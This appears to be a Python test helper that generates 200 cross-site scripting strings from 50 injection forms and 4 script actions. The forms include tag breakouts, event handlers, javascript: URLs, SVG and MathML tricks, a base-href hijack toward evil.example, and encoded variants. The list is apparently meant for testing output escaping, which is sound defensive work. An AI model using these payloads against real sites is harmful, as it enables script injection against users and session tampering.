"""Texts that would run in a page that wrote them as they are."""

from itertools import product

_ACTS = (
    "window.hit=1",
    "alert(1)",
    "fetch('/console/sign-out',{method:'POST'})",
    "document.body.remove()",
)

_FORMS = (
    "<script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "--><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\t>{}</script\t>",
    "<<script>{}//<</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "` onmouseover=`{}",
    '" autofocus onfocus="{}" x="',
    "' autofocus onfocus='{}' x='",
    '" onpointerenter={} ',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<base href='//evil.example/'><script>{}</script>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='data:text/css,*{{color:red}}'><script>{}</script>",
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "{{{{ {} }}}}",
    "{{% print({}) %}}",
    "${{{}}}",
    "#{{{}}}",
    "\u202e<script>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
)


def texts() -> list[str]:
    """Return 200 of them, no two alike."""
    return [form.format(act) for form, act in product(_FORMS, _ACTS)]
